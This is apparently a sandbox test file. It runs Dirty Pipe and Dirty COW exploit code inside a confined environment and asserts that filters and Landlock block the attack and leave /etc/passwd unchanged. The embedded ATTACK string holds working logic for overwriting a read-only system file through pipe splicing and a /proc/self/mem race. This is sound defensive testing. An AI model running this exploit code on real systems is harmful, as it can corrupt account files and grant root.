"""Dirty Pipe (CVE-2022-0847) and Dirty COW (CVE-2016-5195): pages of files that may only be read
are written through a pipe that holds them, or by a race on a private mapping.

The file must be unchanged, seen from inside and outside, and the steps that walls can deny must be
denied: splice by the filter, /proc/self/mem by Landlock.
"""
import mmap
import os
import tempfile

import prelude

ROW = 14
SAYS = "a file that may only be read stays as it is, in the page cache too"
HELDBY = [["base_filter"], ["landlock"]]
ATTACK = r'''
import hashlib, mmap, threading

PREY = "/etc/passwd"

def content():
    with open(PREY, "rb") as file:
        return file.read()

before = content()
victim = os.open(PREY, os.O_RDONLY)
reader, writer = os.pipe()
os.set_blocking(writer, False)
while isinstance(tried(os.write, writer, b"x" * 4096), int):  # leaves every buffer mergeable
    pass
os.set_blocking(reader, False)
while isinstance(tried(os.read, reader, 65536), bytes):
    pass
pipe = {"splice": sc("splice", victim, None, writer, None, 1, 0),
        "sendfile": tried(os.sendfile, writer, victim, 0, 1),
        "merge": tried(os.write, writer, b"OVERWRITTEN")}
private = mmap.mmap(victim, 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
race = {"mem": writable("/proc/self/mem", os.O_RDWR), "write": None}

def forget():
    for _ in range(2000):
        private.madvise(mmap.MADV_DONTNEED)

def overwrite():
    def step():
        with open("/proc/self/mem", "r+b", buffering=0) as memory:
            address = None
            with open("/proc/self/maps") as maps:
                for line in maps:
                    if line.rstrip().endswith(PREY):
                        address = int(line.split("-")[0], 16)
            for _ in range(2000):
                memory.seek(address)
                memory.write(b"OVERWRITTEN")
            return "raced"
    race["write"] = tried(step)

threads = [threading.Thread(target=target) for target in (forget, overwrite)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
fresh = mmap.mmap(victim, 0, mmap.MAP_SHARED, mmap.PROT_READ)[:]
tell({"pipe": pipe, "race": race, "same": content() == before, "cached_same": fresh == before,
      "digest": hashlib.sha256(content()).hexdigest()})
'''


def check(seen, result, host):
    assert seen["pipe"]["splice"] == "EPERM", seen["pipe"]
    if result["layers"]["landlock"] is not None:
        assert seen["race"] == {"mem": "EACCES", "write": "EACCES"}, seen["race"]
    assert seen["same"] is True and seen["cached_same"] is True
    assert seen["digest"] == host.digest(host.rootfs / "etc/passwd")
    assert "OVERWRITTEN" not in prelude.readable("/etc/passwd")
    assert host.before.image_python == host.after.image_python


def control():
    """Outside, /proc/self/mem writes where the mapping forbids it: the race's first half."""
    with tempfile.TemporaryFile() as file:
        file.write(b"plain" * 1000)
        file.flush()
        mapped = mmap.mmap(file.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
        with open("/proc/self/maps", encoding="utf-8") as maps:
            line = [line for line in maps if str(os.fstat(file.fileno()).st_ino) in line.split()][0]
        with open("/proc/self/mem", "r+b", buffering=0) as memory:
            memory.seek(int(line.split("-")[0], 16))
            memory.write(b"other")
        assert mapped[:5] == b"other", mapped[:5]
